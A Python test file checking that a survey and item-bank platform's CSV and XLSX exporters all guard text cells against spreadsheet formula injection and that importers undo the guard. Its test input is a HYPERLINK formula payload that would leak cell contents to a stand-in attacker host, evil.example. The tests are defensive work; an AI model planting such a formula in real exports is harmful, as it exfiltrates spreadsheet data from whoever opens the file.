"""CSV injection: every exporter guards text cells with the one shared function.

``=HYPERLINK(...)`` typed by a resident (a survey answer, a background answer) or
put into an item text must reach a spreadsheet as text, never as a formula.
"""
from __future__ import annotations

import csv
import io

import numpy as np
import openpyxl
import sqlalchemy as sa
from click.testing import CliRunner

from scoring import io as scoring_io
from tabular import guard as csvsafe

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


# the guard's own cases (one cell, round trips) are in tests/tabular/test_guard.py


def test_every_package_uses_the_one_guard():
    from itembank import cli as itembank_cli
    from itembank import importing
    from monitoring.stats import groupstats
    from surveys import exports

    assert exports.guard_cell is csvsafe.guard_cell
    assert itembank_cli.guard_cell is csvsafe.guard_cell
    assert groupstats.guard_cell is csvsafe.guard_cell
    assert importing.unguard_cell is csvsafe.unguard_cell
    assert scoring_io._escape(EVIL) == csvsafe.guard_cell(EVIL)


def test_scoring_writers_guard_text_and_readers_undo_it(tmp_path):
    out = tmp_path / "SCORES.csv"
    scoring_io.write_scores(out, [EVIL, "p2"], type("E", (), {
        "theta": np.array([-1.25, 0.5]), "se": np.array([0.3, 0.31])})())
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert rows[1][0] == "'" + EVIL and rows[1][1] == "-1.25"  # numbers untouched
    responses = tmp_path / "RESPONSES.csv"
    scoring_io.write_table(responses, ["person_id", "i1", "i2"],
                           [[EVIL, 1, 0], ["p2", 0, 1], ["p3", 1, 1]])
    assert next(csv.reader(responses.open(encoding="utf-8-sig"))) == ["person_id", "i1", "i2"]
    assert list(csv.reader(responses.open(encoding="utf-8-sig")))[1][0] == "'" + EVIL
    data = scoring_io.read_responses(responses)
    assert str(data.person_ids[0]) == EVIL


def test_survey_answer_exported_safely(tmp_path):
    from pathlib import Path

    from surveys.definition import load_survey
    from surveys.exports import write_csv, write_xlsx

    root = Path(__file__).resolve().parents[2]
    survey = load_survey(root / "surveys" / "defaults" / "learning_needs.json")
    answers = [{"age_band": "30-44", "district": "D01", "street": EVIL,
                "suggestions": EVIL}]
    write_csv(survey, answers, tmp_path / "r.csv")
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["street"] == "'" + EVIL and rows[0]["suggestions"] == "'" + EVIL
    write_xlsx(survey, answers, tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx")["responses"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)  # text, never a formula


def test_item_text_exported_safely(db_url, demo, tmp_path):
    from itembank import services
    from itembank.importing import ItemSpec
    from itembank.models import Item
    from tests.conftest import write_ini

    item = demo.scalars(sa.select(Item).order_by(Item.code)).first()
    current = item.current
    spec = ItemSpec(row=0, code=item.code, domain=item.domain_code,
                    subdomain=item.subdomain, type=item.type, stem_zh=EVIL,
                    stem_en="-" + EVIL, options=list(current.options), key=current.key,
                    reverse=current.reverse, media=current.media, tags=list(item.tags),
                    author=item.author, status=item.status)
    services.edit_item(demo, item, spec, "tester")
    demo.commit()
    from learningcity.cli import main

    ini = write_ini(tmp_path, db_url)
    runner = CliRunner()
    res = runner.invoke(main, ["itembank", "export", "--ini", ini, "--out",
                               str(tmp_path / "items.csv")])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader((tmp_path / "items.csv").open(encoding="utf-8-sig")))
    row = next(r for r in rows if r["code"] == item.code)
    assert row["stem_zh"] == "'" + EVIL and row["stem_en"] == "'-" + EVIL
    res = runner.invoke(main, ["itembank", "export", "--ini", ini, "--out",
                               str(tmp_path / "items.xlsx")])
    assert res.exit_code == 0, res.output
    # XLSX: the exact text, typed as a string cell (Excel never evaluates those)
    sheet = openpyxl.load_workbook(tmp_path / "items.xlsx").active
    cells = {c.value: c.data_type for row in sheet.iter_rows() for c in row}
    assert cells.get(EVIL) == "s" and cells.get("-" + EVIL) == "s"
    assert "'" + EVIL not in cells
    # both files import back unchanged: the CSV reader undoes the guard
    for name in ("items.csv", "items.xlsx"):
        res = runner.invoke(main, ["itembank", "import", "--ini", ini, str(tmp_path / name)])
        assert res.exit_code == 0 and "0 new version(s)" in res.output, (name, res.output)


def test_background_answer_in_responses_export_is_guarded(testapp, demo, tmp_path):
    """A resident types a formula as their street: the item bank's copy no longer keeps
    the street at all (issue 16), and a group value stored by an older version still
    reaches the calibration export guarded."""
    from itembank import services
    from itembank.models import Instrument

    step = testapp.post_json("/api/v1/sessions", {"consent": True, "background": {
        "age_band": "30-44", "street": EVIL}}, status=201).json
    item = step["item"]
    testapp.post_json(f"/api/v1/sessions/{step['token']}/answers", {
        "position": item["position"], "version": item["version"], "choice": 1})
    instrument = demo.scalar(sa.select(Instrument).where(Instrument.code == "LLA"))
    out = io.StringIO()
    services.export_responses(demo, instrument, out, ["street", "age_band"])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0][:3] == ["person_id", "street", "age_band"]
    assert rows[1][1] == "" and rows[1][2] == "30-44"
    info = services.instrument_info(demo, "LLA")
    content = services.version_contents(demo, [item["version"]])[item["version"]]
    services.record_response(demo, instrument=info, version=content, respondent="old1",
                             choice=1, groups={"street": EVIL, "age_band": "60+"})
    out = io.StringIO()
    services.export_responses(demo, instrument, out, ["street", "age_band"])
    rows = {row[0]: row for row in csv.reader(io.StringIO(out.getvalue()))}
    assert rows["old1"][1:3] == ["'" + EVIL, "60+"]
